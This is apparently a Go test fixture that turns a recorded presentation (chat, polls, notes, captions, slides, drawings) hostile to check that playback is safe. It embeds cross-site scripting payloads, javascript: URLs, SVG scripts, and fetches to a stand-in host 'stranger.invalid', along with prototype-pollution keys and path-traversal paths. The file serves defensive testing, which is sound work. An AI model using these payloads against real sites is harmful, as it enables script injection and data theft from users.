package recordingtest

import (
	"fmt"
	"strings"
)

// Stranger is the host that a hostile recording tries to reach.
const Stranger = "stranger.invalid"

// Marker is the global variable that its scripts set, in whatever window they
// come to run.
const Marker = "executed"

// script is what would leave the marker, and ask the stranger.
const script = `try{top.` + Marker + `=1}catch(e){};window.` + Marker + `=1;fetch('//` + Stranger + `/script')`

// element is a script as an element, and one as an event.
const element = `<script>` + script + `</script><img src=x onerror="` + script + `"><iframe srcdoc="<script>` + script + `</script>"></iframe>`

// Tempt makes the recording hostile: wherever people type, draw or upload
// something, there is a script and a request to another host. It plays all the
// same.
func (r *Recording) Tempt() {
	r.temptTalk()
	r.temptSlides()
	if r.svgDrawn() {
		r.temptCanvas()
	} else {
		r.temptTldraw()
	}
}

func (r *Recording) temptTalk() {
	r.Put("metadata.xml", strings.ReplaceAll(r.Text("metadata.xml"), escape(r.Title), escape("Biology"+element)))
	var chat strings.Builder
	chat.WriteString(xmlHead + "<popcorn>\n")
	for i, l := range []line{
		{in: 1, name: "Ada" + element, moderator: true, message: "one " + element, reactions: []string{escape(element), "👍"}},
		{in: 2, name: "__proto__", message: `<a href="javascript:` + script + `">two</a>`},
		{in: 3, name: "constructor", message: `<a href="//` + Stranger + `/a" onclick="` + script + `">three</a> &lt;script&gt;` + script + `&lt;/script&gt;`},
		{in: 4, name: "D", message: `![four](http://` + Stranger + `/chat.png) <svg onload="` + script + `"><style>@import url(//` + Stranger + `/style)</style>`, reply: 4},
		{in: 5, name: "E", message: "data:text/html,five vbscript:x java\tscript:alert(1) http://" + Stranger + "/linked"},
	} {
		chat.WriteString(r.chatElement(i+1, l))
	}
	r.Put("slides_new.xml", chat.String()+"</popcorn>\n")
	r.Put("polls.json", marshal([]any{
		object{"timestamp": 3, "type": element, "question": "poll " + element, "respondents": "1e999", "responders": -5, "answers": []any{
			object{"id": 0, "key": "Yes" + element, "numVotes": 1e300}, object{"id": 1, "key": "__proto__", "numVotes": "<b>"}, nil, 7,
		}},
		nil, "text", object{"timestamp": nil, "answers": "none"},
	}))
	r.Put("external_videos.json", marshal([]any{
		object{"timestamp": 4, "external_video_url": "javascript:" + script}, object{"timestamp": 5, "external_video_url": "//" + Stranger + "/video"},
		object{"timestamp": 6, "external_video_url": object{}}, object{"timestamp": 7, "external_video_url": "data:text/html," + element},
	}))
	r.Put("notes.html", fmt.Sprintf(`<!DOCTYPE html><html><head><base href="http://%[1]s/"><meta http-equiv="refresh" content="1;url=http://%[1]s/refresh"><link rel="stylesheet" href="http://%[1]s/sheet">
<style>@import url(http://%[1]s/import); body { background: url(http://%[1]s/background) }</style><script src="http://%[1]s/s.js"></script></head>
<body onload="%[2]s" style="background:url(http://%[1]s/body)"><p>Notes</p>%[3]s<form action="http://%[1]s/form"><button autofocus onfocus="%[2]s">Send</button></form>
<img src="http://%[1]s/notes.png" srcset="http://%[1]s/set.png 2x"><a href="javascript:%[2]s">link</a><a href="http://%[1]s/fine" ping="http://%[1]s/ping">fine</a><svg><a xlink:href="javascript:%[2]s"><text>svg</text></a><use href="http://%[1]s/use#a"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="%[2]s"></style></mglyph></table></mtext></math><template><p>%[3]s</p></template><object data="http://%[1]s/object"></object><video src="http://%[1]s/film" autoplay></video></body></html>
`, Stranger, script, element))
	r.Put("captions.json", marshal([]any{
		object{"locale": "en", "localeName": "English" + element}, object{"locale": "../../../../x", "localeName": "up"},
		object{"locale": "//" + Stranger + "/c", "localeName": "away"}, object{"locale": `"><script>`, "localeName": object{}}, nil, 5,
	}))
	r.Put("caption_en.vtt", "WEBVTT\n\nSTYLE\n::cue { background: url(http://"+Stranger+"/cue) }\n\n00:00:01.000 --> 00:00:29.000\nspoken "+strings.ReplaceAll(element, "-->", "")+" <c.x onclick=1>class</c>\n")
	r.Put("presentation_text.json", `{"__proto__":{"slide-1":"polluted"},"constructor":{"prototype":"x"},"`+presentationID+`":{"slide-1":`+strings.TrimSpace(marshal("text "+element))+`,"slide-2":7,"__proto__":null}}`)
}

// temptSlides makes the first page hostile where it is a drawing, and adds
// showings that lead away.
func (r *Recording) temptSlides() {
	if !r.svgDrawn() {
		r.Put(slideName(r.minor(), 1), fmt.Sprintf(`<?xml version="1.0"?><?xml-stylesheet href="http://%[1]s/sheet.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="1600" height="900" viewBox="0 0 1600 900" onload="%[2]s">
<script>%[2]s</script><script xlink:href="http://%[1]s/slide.js"/><rect width="1600" height="900" fill="#0f5cc0" onclick="%[2]s"/>
<image xlink:href="http://%[1]s/in-slide.png" width="10" height="10"/><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://%[1]s/frame"/></foreignObject>
<style>@import url(http://%[1]s/slide.css);</style></svg>`, Stranger, strings.ReplaceAll(script, "'", "&quot;")))
	}
	away := ""
	for i, href := range []string{
		"http://" + Stranger + "/slide.png", "//" + Stranger + "/slide.png", "javascript:" + script, "../../../../secret.png", "/" + Stranger + ".png",
		"data:image/svg+xml,<svg onload='" + script + "'/>", `\\` + Stranger + `\slide.png`, "presentation/%2e%2e/%2e%2e/x.png", "http:" + Stranger + "/x.png",
	} {
		away += fmt.Sprintf(`<image id="image%d" class="slide" in="%.1f" out="%.1f" xlink:href="%s" width="1600" height="900" text="http://%s/text" onload="%s"/>`+"\n",
			50+i, 25+.3*float64(i), 25.3+.3*float64(i), escape(href), Stranger, escape(script))
	}
	away += `<script>` + escape(script) + `</script><image id="__proto__" class="slide" in="28.0" out="28.2" xlink:href="` + slideName(r.minor(), 1) + `" width="NaN" height="1e999"/>` + "\n"
	r.Put("shapes.svg", strings.Replace(r.Text("shapes.svg"), "</svg>\n", away+"</svg>\n", 1))
}

// temptCanvas adds hostile drawings to the first page.
func (r *Recording) temptCanvas() {
	versions := []version{
		{1, -1, "h1", "fill:url(http://" + Stranger + "/fill#a);stroke:red;background:url(//" + Stranger + "/b);behavior:url(x)", `<rect x="10" y="10" width="100" height="100" onclick="` + escape(script) + `" filter="url(http://` + Stranger + `/filter#a)"/>`},
		{1, -1, "h2", "", `<image xlink:href="http://` + Stranger + `/drawn.png" x="0" y="0" width="10" height="10"/>`},
		{1, -1, "h3", "", `<script>` + escape(script) + `</script><style>@import url(http://` + Stranger + `/canvas.css)</style>`},
		{1, -1, "h4", "", `<switch><foreignObject x="0" y="0" width="100" height="100"><p xmlns="http://www.w3.org/1999/xhtml" onmouseover="x">text<img src="http://` + Stranger + `/p.png" onerror="` + escape(script) + `"/><iframe src="http://` + Stranger + `/frame"/><script>` + escape(script) + `</script></p></foreignObject></switch>`},
		{1, -1, "h5", "", `<a xlink:href="javascript:` + escape(script) + `"><rect width="1600" height="900"/></a><use xlink:href="http://` + Stranger + `/use#a"/><animate attributeName="href" to="javascript:x" onbegin="` + escape(script) + `"/><set attributeName="onload" to="x"/>`},
		{1, -1, "__proto__", "stroke:red", `<path d="M0 0L1e999 NaN` + strings.Repeat("L1 1", 2000) + `"/>`},
	}
	canvas := strings.Replace(canvasElement(60, versions), `image="image60"`, `image="image1"`, 1)
	r.Put("shapes.svg", strings.Replace(r.Text("shapes.svg"), "</svg>\n", canvas+"</svg>\n", 1))
}

// temptTldraw adds hostile drawings to the first page.
func (r *Recording) temptTldraw() {
	b := r.brush(1)
	hostile := []any{
		with(b.rectangle("__proto__", .1, .1, .1, .1), object{"label": element, "onclick": script}),
		with(b.text("constructor", .2, .2, element), object{"type": "text"}),
		with(b.rectangle("shape:huge", 1e300, -1e300, 1e300, 1), object{"rotation": "NaN", "style": object{"color": `red" onload="` + script, "size": object{}, "dash": nil}}),
		with(b.stroke("shape:torn", .1, .1, .2, .2), object{"points": []any{nil, "x", []any{}, []any{"NaN", object{}}}, "props": object{"segments": []any{nil, object{"points": "no"}}}}),
		with(b.rectangle("shape:cycle", .1, .1, .1, .1), object{"parentId": "shape:cycle"}),
		with(b.rectangle("shape:a", .1, .1, .1, .1), object{"parentId": "shape:b"}), with(b.rectangle("shape:b", .1, .1, .1, .1), object{"parentId": "shape:a"}),
		object{"id": "shape:image", "typeName": "shape", "type": "image", "x": 1, "y": 1, "parentId": "page:1", "index": "a1", "props": object{"w": 10, "h": 10, "src": "http://" + Stranger + "/image.png", "url": "javascript:" + script, "assetId": "http://" + Stranger + "/asset.png"}},
		object{"id": "shape:embed", "typeName": "shape", "type": "embed", "x": 1, "y": 1, "props": object{"url": "http://" + Stranger + "/embed", "w": 10, "h": 10}},
		object{"id": 7, "type": []any{}}, nil, "text", 5, object{},
	}
	var shapes []any
	for i, data := range hostile {
		shapes = append(shapes, object{"id": i, "timestamp": 1, "undo": -1, "shape_data": data})
	}
	file := r.tldrawFile()
	first, _ := file["1"].(object)
	if first == nil {
		first = object{"timestamp": 0}
	}
	former, _ := first["shapes"].([]any)
	file["1"] = object{"timestamp": 0, "shapes": append(append(former, shapes...), nil, "x", object{"timestamp": "soon"})}
	file["__proto__"], file["NaN"], file["999"] = object{"shapes": shapes, "timestamp": 0}, 5, nil
	r.Put("tldraw.json", marshal(file))
}
